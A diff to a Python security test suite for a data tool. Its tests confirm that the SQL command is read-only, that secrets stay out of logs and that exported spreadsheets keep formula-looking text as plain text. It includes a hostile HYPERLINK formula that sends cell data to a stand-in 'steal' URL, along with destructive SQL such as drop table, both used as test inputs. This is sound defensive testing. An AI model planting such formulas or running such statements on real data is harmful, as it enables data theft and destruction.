@@ -4,15 +4,14 @@ leave SLI_HOME, and spreadsheets that never run formula-looking text."""
 from __future__ import annotations
 
 import csv
-import hashlib
 import re
-import shutil
 import subprocess
 import zipfile
 
 import pandas as pd
 
-from conftest import REPO, sli
+from conftest import REPO, copy_home, sli
+from ingestion.landing import sha256_of
 from lginform_server import FakeLgInform, Metric
 
 # Shapes of real credentials: cloud keys, private keys, tokens, and secrets assigned in code or config.
@@ -59,14 +58,14 @@ def test_the_secret_is_in_no_output_log_or_file_after_a_failed_call(tmp_path):
 
 def test_sli_sql_cannot_write(published_home):
     published = published_home / "warehouse" / "sli.duckdb"
-    before = hashlib.sha256(published.read_bytes()).hexdigest()
+    before = sha256_of(published)
     for statement in ("delete from mart_sector_overview", "create table scratch as select 1 as x",
                       "drop table dim_council", "update dim_council set council_name = 'x'",
                       "insert into dim_metric (metric_id) values ('x')"):
         result = sli(published_home, "sql", statement, check=False)
         assert result.returncode != 0 and "read-only" in result.stderr.lower(), (statement, result.stderr)
         assert "Traceback" not in result.stderr
-    assert hashlib.sha256(published.read_bytes()).hexdigest() == before
+    assert sha256_of(published) == before
 
 
 def test_names_from_inputs_cannot_leave_sli_home(tmp_path):
@@ -83,8 +82,7 @@ def test_names_from_inputs_cannot_leave_sli_home(tmp_path):
 
 
 def test_exported_workbooks_keep_formula_looking_text_as_text(tmp_path, published_home):
-    home = tmp_path / "home"
-    shutil.copytree(published_home, home, ignore=shutil.ignore_patterns("airflow"))
+    home = copy_home(published_home, tmp_path / "home")
     hostile = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open")'
     with (home / "inbox" / "ope" / "ope_partnership_outputs.csv").open("w", newline="", encoding="utf-8") as handle:
         writer = csv.writer(handle)
